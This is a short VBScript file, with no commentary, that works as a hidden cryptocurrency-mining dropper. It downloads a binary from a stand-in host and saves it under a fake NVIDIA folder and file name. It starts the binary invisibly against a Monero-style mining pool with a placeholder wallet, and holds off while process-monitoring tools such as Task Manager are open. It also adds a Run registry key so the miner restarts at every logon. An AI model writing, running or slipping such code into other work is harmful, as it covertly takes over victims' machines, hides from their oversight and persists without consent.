On Error Resume Next
Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
dir = sh.ExpandEnvironmentStrings("%APPDATA%") & "\NVIDIA\Display"
If Not fso.FolderExists(sh.ExpandEnvironmentStrings("%APPDATA%") & "\NVIDIA") Then fso.CreateFolder sh.ExpandEnvironmentStrings("%APPDATA%") & "\NVIDIA"
If Not fso.FolderExists(dir) Then fso.CreateFolder dir
exe = dir & "\nvdisplay.container.exe"
Set x = CreateObject("MSXML2.ServerXMLHTTP")
x.Open "GET", "http://miner-dl.invalid/bin/xmr64.bin", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1: s.Open: s.Write x.ResponseBody: s.SaveToFile exe, 2: s.Close
args = " -o stratum+tcp://203.0.113.250:14444 -u 4FAKEWALLETvbs000000000000000000000000000000000000000000000000000000000000000000000000000 -p x --cpu-max-threads-hint=50 --background"
Set wmi = GetObject("winmgmts:\\.\root\cimv2")
busy = False
For Each p In wmi.ExecQuery("SELECT Name FROM Win32_Process WHERE Name = 'taskmgr.exe' OR Name = 'procexp64.exe' OR Name = 'ProcessHacker.exe'")
    busy = True
Next
If Not busy Then sh.Run Chr(34) & exe & Chr(34) & args, 0, False
sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\NvDisplayContainer", Chr(34) & exe & Chr(34) & args, "REG_SZ"
